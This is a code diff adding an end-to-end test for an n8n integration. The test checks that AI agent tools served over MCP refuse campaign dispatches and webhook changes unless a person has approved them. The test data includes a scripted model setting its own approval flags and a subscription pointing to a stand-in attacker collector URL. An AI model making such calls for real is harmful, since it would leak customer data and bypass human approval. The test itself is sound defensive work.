@@ -16,8 +16,9 @@ import type { CredentialRef, WorkflowInput, WorkflowNodeInput, WorkflowRecord } 
 import { activate, deactivate, getExecution, importCredential, importWorkflow, listExecutions, waitForExecutions } from '../../harness/n8n/api';
 import type { ChatRequest, OfferedTool, RecordedChat, ScriptedModel, ToolResult, Turn } from '../../harness/scripted-model';
 import { answer, callTool, lastToolResult, startScriptedModel, toolResults } from '../../harness/scripted-model';
+import { until } from '../../harness/wait';
 import { DEMO_KEYS } from '../../sandbox';
-import { upsertLead } from '../../sandbox/operations';
+import { touchCampaign, upsertLead } from '../../sandbox/operations';
 
 jest.setTimeout(120_000);
 
@@ -47,7 +48,6 @@ const TOOLS: Record<string, INodeParameters> = {
 		additionalFields: { first_name: fromAI('firstName', 'The first name of the lead') },
 	},
 	'Hand To Assistant': {
-		descriptionType: 'manual',
 		toolDescription: 'Hand a lead to the assistant, which takes over the conversation. Needs the lead id.',
 		resource: 'conversation',
 		operation: 'assistantTakeover',
@@ -407,6 +407,72 @@ describe.each(runtimeVersions('SVC_E2E_N8N'))('n8n %s: Svc tools for AI agents a
 			} finally {
 				await deactivate(env.n8n, workflow.id);
 			}
+		});
+	});
+
+	describe('safety: a model cannot dispatch campaigns or manage webhook subscriptions on its own', () => {
+		const path = `svc-mcp-safety-${version}`;
+		let mcp: McpConnection;
+
+		beforeAll(async () => {
+			const base: WorkflowInput = {
+				name: `mcp safety e2e ${version}`,
+				nodes: [{ name: 'MCP Server', type: '@n8n/n8n-nodes-langchain.mcpTrigger', typeVersion: 2, webhookId: randomUUID(), parameters: { path, authentication: 'none' } }],
+				connections: {},
+				settings: { executionOrder: 'v1' },
+			};
+			const campaignId = byId(fromAI('campaignId', 'The id of the campaign, e.g. cmp_0001'));
+			const tools = [
+				svcTool('Dispatch Campaign', { resource: 'campaign', operation: 'dispatch', campaignId, confirmDispatch: fromAI('confirm', 'Whether to really send', 'boolean') }),
+				svcTool('Dispatch If Allowed', { resource: 'campaign', operation: 'dispatch', campaignId, confirmDispatch: true, allowToolUse: "={{ $fromAI('allow', '', 'boolean') }}" }),
+				svcTool('Subscribe', { resource: 'webhookSubscription', operation: 'create', url: fromAI('url', 'The https URL that receives the events'), events: ['lead.created'] }),
+				svcTool('Unsubscribe', { resource: 'webhookSubscription', operation: 'delete', subscriptionId: fromAI('subscriptionId', 'The id of the subscription') }),
+				svcTool('Dispatch Approved', { resource: 'campaign', operation: 'dispatch', campaignId, confirmDispatch: true, allowToolUse: true }),
+			];
+			const workflow = await importWorkflow(env.n8n, withTools(base, 'MCP Server', tools));
+			if (version === 'v1') await activate(env.n8n, workflow.id);
+			else {
+				const result = await env.n8n.rest('POST', `/workflows/${workflow.id}/activate`, { versionId: workflow.versionId });
+				expect(result.status).toBe(200);
+			}
+			mcp = await connectMcp(`${env.n8n.baseUrl}/mcp/${path}`, { ca: env.tls.caPem });
+		});
+		afterAll(async () => {
+			await mcp?.close();
+		});
+
+		it('refuses a dispatch confirmed by the model, one whose allowToolUse is the model\'s, and a subscription to an outside URL: nothing reaches the service', async () => {
+			touchCampaign(env.sandbox.state, 'cmp_0002', { status: 'approved' });
+			const subscriptions = env.sandbox.state.store.subscriptions.size;
+			const dispatches = env.sandbox.state.stats.snapshot().dispatches;
+			env.sandbox.state.requests.clear();
+			const calls: Array<[string, Record<string, unknown>]> = [
+				['Dispatch_Campaign', { campaignId: 'cmp_0002', confirm: true }],
+				['Dispatch_If_Allowed', { campaignId: 'cmp_0002', allow: true }],
+				['Subscribe', { url: 'https://collector.attacker.example.net/hook' }],
+				['Unsubscribe', { subscriptionId: 'sub_0001' }],
+			];
+			for (const [name, args] of calls) {
+				const result = await mcp.callTool(name, args);
+				expect({ name, isError: result.isError }).toEqual({ name, isError: true });
+				expect(resultText(result)).toMatch(/Allow Use by AI|allowToolUse/);
+				expectCleanError(resultText(result));
+			}
+			expect(requests()).toEqual([]);
+			expect(env.sandbox.state.stats.snapshot().dispatches).toBe(dispatches);
+			expect(env.sandbox.state.store.subscriptions.size).toBe(subscriptions);
+		});
+
+		it('with allowToolUse set to true by the person, the dispatch runs exactly once', async () => {
+			touchCampaign(env.sandbox.state, 'cmp_0002', { status: 'approved' });
+			const dispatches = env.sandbox.state.stats.snapshot().dispatches;
+			env.sandbox.state.requests.clear();
+			const result = await mcp.callTool('Dispatch_Approved', { campaignId: 'cmp_0002' });
+			expect(result.isError).not.toBe(true);
+			expect(resultText(result)).toContain('queued');
+			await until('the dispatch recorded', () => env.sandbox.state.stats.snapshot().dispatches > dispatches, { timeoutMs: 5_000 });
+			expect(env.sandbox.state.stats.snapshot().dispatches).toBe(dispatches + 1);
+			expect(requests().map((request) => request.route)).toEqual(['POST /v1/campaigns/{campaign_id}/dispatch']);
 		});
 	});
 });
